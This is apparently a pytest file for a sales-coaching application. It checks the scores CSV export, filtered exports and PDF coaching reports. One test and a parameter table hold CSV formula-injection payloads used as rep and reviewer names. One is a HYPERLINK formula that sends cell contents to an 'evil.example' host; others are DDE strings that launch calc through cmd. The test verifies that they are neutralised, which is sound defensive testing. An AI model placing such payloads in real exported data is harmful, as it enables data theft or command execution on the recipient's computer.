# ruff: noqa: F811  (the fixtures imported from review_support are parameters here)
"""The scores CSV, checked cell by cell, and the PDF coaching report."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import unicodedata

import pytest
from factories import add_catalogue
from pypdf import PdfReader
from review_support import coaching, review_video, utc  # noqa: F401  (fixtures)
from sqlalchemy import select

from app.core.errors import UserError
from app.core.models import Decision, Scenario, Submission
from app.review.comments import add_comment
from app.review.decisions import decide
from app.review.export import write_scores_csv
from app.review.periods import ALL_TIME, parse_period
from app.review.report import build_report, write_report_pdf
from app.review.scores import ScoreRow, score_rows
from app.review.scoring import score_submission
from app.scenarios.rubrics import Criterion

GOOD = {"discovery": 4, "benefit": 3, "close": 7}  # 72.5
HALF = {"discovery": 5, "benefit": 0, "close": 0}  # 50.0


@pytest.fixture
def scored(coaching, make_profile):
    """Three reviews across two months, two rubrics and an awkward name."""
    zoe = make_profile('Zoë "Z" Ng, Jr.', "rep", team="South")
    with coaching.ctx.session() as s:
        base = s.get(Scenario, coaching.scenario_id)
        short_id = add_catalogue(
            s,
            products=(),  # the base scenario's own pair
            rubric=("rv-short", "Short"),
            criteria=[("rapport", "Rapport", 1.0, 3)],
            scenarios=[
                {
                    "key": "rv-short-offer",
                    "title": "Short offer",
                    "situation": "A quick chat.",
                    "primary": base.primary_product.key,
                    "cross_sell": base.cross_sell_product.key,
                }
            ],
        ).scenario.id
    ana = coaching.submit(coaching.ana, utc(2026, 11, 20))
    zoe_sub = coaching.submit(zoe, utc(2026, 11, 25))
    with coaching.ctx.session() as s:
        s.get(Submission, zoe_sub).scenario_id = short_id
    with coaching.ctx.session() as s:
        score_submission(
            s, coaching.tom, ana, GOOD, "Lovely open questions.", now=utc(2026, 11, 30, 23, 59)
        )
        decide(s, coaching.tom, ana, Decision.APPROVE)
        score_submission(s, coaching.max, ana, HALF, "Close earlier.", now=utc(2026, 12, 1, 8))
        decide(s, coaching.max, ana, Decision.RETAKE, "Ask for the card.")
        score_submission(s, coaching.tia, zoe_sub, {"rapport": 2}, now=utc(2026, 11, 26, 10))
        add_comment(s, coaching.tom, ana, 1.5, "Great question", "good discovery question")
        add_comment(s, coaching.max, ana, 3.0, "", "missed the cross-sell moment")
    return coaching, ana, zoe_sub


def _read(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the UTF-8 mark spreadsheet programs look for
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_the_scores_csv_cell_by_cell(scored, tmp_path):
    coaching, ana, zoe = scored
    with coaching.ctx.session() as s:
        rows = score_rows(s)
    path = tmp_path / "scores.csv"
    assert write_scores_csv(path, rows) == 3
    header, *body = _read(path)
    assert header == [
        "submission_id",
        "rep",
        "team",
        "scenario",
        "reviewer",
        "reviewed_date",
        "period",
        "discovery",
        "benefit",
        "close",
        "rapport",
        "points",
        "decision",
    ]
    assert body == [
        [zoe, 'Zoë "Z" Ng, Jr.', "South", "rv-short-offer", "Tia Trainer", "2026-11-26",
         "2026-11", "", "", "", "2", "66.7", "none"],
        [ana, "Ana Souza", "North", "rv-card-offer", "Tom Trainer", "2026-11-30",
         "2026-11", "4", "3", "7", "", "72.5", "approve"],
        [ana, "Ana Souza", "North", "rv-card-offer", "Max Manager", "2026-12-01",
         "2026-12", "5", "0", "0", "", "50.0", "retake"],
    ]  # fmt: skip
    text = path.read_text(encoding="utf-8-sig")
    assert '"Zoë ""Z"" Ng, Jr."' in text  # quoted, quotes doubled


def test_the_csv_for_one_period_rep_and_scenario(scored, tmp_path):
    coaching, ana, _ = scored
    november = parse_period("2026-11")
    with coaching.ctx.session() as s:
        rows = score_rows(s, november, rep_id=coaching.ana.id, scenario_id=coaching.scenario_id)
    path = tmp_path / "ana.csv"
    write_scores_csv(path, rows, november)
    header, *body = _read(path)
    assert header[7:] == ["discovery", "benefit", "close", "points", "decision"]
    assert body == [
        [ana, "Ana Souza", "North", "rv-card-offer", "Tom Trainer", "2026-11-30", "2026-11",
         "4", "3", "7", "72.5", "approve"],
    ]  # fmt: skip


def test_a_csv_into_a_missing_folder_is_refused_and_nothing_is_written(scored, tmp_path):
    coaching, _, _ = scored
    with coaching.ctx.session() as s:
        rows = score_rows(s, ALL_TIME)
    with pytest.raises(UserError, match="does not exist"):
        write_scores_csv(tmp_path / "nowhere" / "scores.csv", rows)
    assert not (tmp_path / "nowhere").exists()


def test_cells_that_would_start_a_formula_are_text_in_the_csv(coaching, make_profile, tmp_path):
    """OWASP's CSV injection: a rep named =HYPERLINK(...) must not run in the manager's
    spreadsheet. Text cells starting with = + - @ get a leading quote; numbers stay numbers."""
    rep = make_profile('=HYPERLINK("http://evil.example/?"&A1,"Click")', "rep", team="+SUM(A1:A9)")
    reviewer = make_profile("@SUM(1+1)*cmd|' /C calc'!A0", "trainer")
    minus = make_profile("-2+3+cmd|' /C calc'!A0", "rep", team="-5")
    first, second = coaching.submit(rep), coaching.submit(minus)
    with coaching.ctx.session() as s:
        score_submission(s, reviewer, first, GOOD, now=utc(2026, 11, 20))
        score_submission(s, reviewer, second, HALF, now=utc(2026, 11, 21))
        rows = score_rows(s)
    path = tmp_path / "scores.csv"
    write_scores_csv(path, rows)
    _, one, two = _read(path)
    assert one[1:5] == [
        """'=HYPERLINK("http://evil.example/?"&A1,"Click")""",
        "'+SUM(A1:A9)",
        "rv-card-offer",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    assert one[7:] == ["4", "3", "7", "72.5", "none"]
    assert two[1:3] == ["'-2+3+cmd|' /C calc'!A0", "-5"]  # a team named -5 is a plain number


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "-3"),
        ("+4", "+4"),
        ("-72.5", "-72.5"),
        ("72.5", "72.5"),
        ("-", "'-"),
        ("Ana = Bea", "Ana = Bea"),
    ],
)
def test_each_dangerous_start_is_neutralised_and_plain_numbers_are_not(tmp_path, cell, written):
    """Cells the product cannot produce through profiles (a leading tab or carriage return,
    a negative score) go through the same writer as rows straight from the table."""
    row = ScoreRow(
        review_id="r1",
        submission_id="s1",
        rep_id="p1",
        rep_name=cell,
        team=cell,
        scenario_key="k",
        scenario_title="T",
        reviewer_name="Tom",
        reviewed_at=utc(2026, 11, 20),
        scores={"c": -3},
        points=-1.5,
        decision=Decision.APPROVE,
        feedback="",
        criteria=(Criterion("c", "C", "", 1.0, 5),),
    )
    path = tmp_path / "scores.csv"
    write_scores_csv(path, [row])
    _, back = _read(path)
    assert back[1:3] == [written, written]
    assert back[7:] == ["-3", "-1.5", "approve"]


def _pdf_text(path) -> str:
    """The PDF's words with spacing evened out (Qt writes gaps as tabs, ff as a ligature)."""
    text = " ".join(page.extract_text() for page in PdfReader(path).pages)
    return " ".join(unicodedata.normalize("NFKC", text).split())


def test_the_coaching_report_pdf_holds_the_rep_scores_and_comments(scored, tmp_path):
    coaching, _, _ = scored
    with coaching.ctx.session() as s:
        report = build_report(s, "Ana Souza", parse_period("2026-Q4"))
    assert [r.points for r in report.rows] == [72.5, 50.0]
    assert report.mean_points == 61.2  # 61.25, rounded half to even
    by_key = {c.key: c for c in report.criteria}
    assert by_key["discovery"].mean_percent == 90.0  # (4/5 + 5/5) / 2
    assert by_key["benefit"].mean_percent == 30.0  # (3/5 + 0/5) / 2
    assert by_key["close"].mean_percent == 35.0  # (7/10 + 0/10) / 2
    assert [c.key for c in report.strengths] == ["discovery"]
    assert [c.key for c in report.weaknesses] == ["benefit"]
    path = write_report_pdf(report, tmp_path / "ana.pdf")
    assert path.read_bytes().startswith(b"%PDF")
    assert not list(tmp_path.glob(".*partial"))
    text = _pdf_text(path)
    for expected in (
        "Ana Souza",
        "2026-Q4",
        "72.5",
        "50.0",
        "61.2",
        "Discovery questions",
        "Strengths: Discovery questions",
        "To work on: Benefit explained",
        "Lovely open questions.",
        "Close earlier.",
        "Great question",
        "missed the cross-sell moment",
        "Tom Trainer",
        "Max Manager",
    ):
        assert expected in text, expected


def test_a_report_for_a_quiet_period_says_so(scored, tmp_path):
    coaching, _, _ = scored
    with coaching.ctx.session() as s:
        report = build_report(s, "Ana Souza", parse_period("2026-01"))
    text = _pdf_text(write_report_pdf(report, tmp_path / "quiet.pdf"))
    assert "Ana Souza" in text and "No reviews in this period." in text


def test_score_rows_leave_out_withdrawn_reviews(scored):
    from app.core.models import Review

    coaching, ana, _ = scored
    with coaching.ctx.session() as s:
        review = s.scalar(select(Review).where(Review.reviewer_id == coaching.max.id))
        review.deleted = True
    with coaching.ctx.session() as s:
        assert [r.reviewer_name for r in score_rows(s, rep_id=coaching.ana.id)] == ["Tom Trainer"]


@pytest.mark.real_kdf  # the crosscoach process makes Tom's key at the real cost
def test_a_cli_process_writes_the_pdf_without_any_widget_application(scored, tmp_path):
    """A separate ``crosscoach report`` process: only a QGuiApplication is made
    there (no widgets), and the desktop app, which makes its QApplication first, is
    another process, so the two never share one."""
    coaching, _ana, _zoe = scored
    pdf = tmp_path / "ana.pdf"
    env = {k: v for k, v in os.environ.items() if k != "QT_QPA_PLATFORM"}
    done = subprocess.run(
        [sys.executable, "-m", "app", "--data-dir", str(coaching.ctx.paths.root),
         "--as", "Tom Trainer", "report", "Ana Souza", "--period", "all",
         "--pdf", str(pdf)],
        env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "Ana Souza" in _pdf_text(pdf)
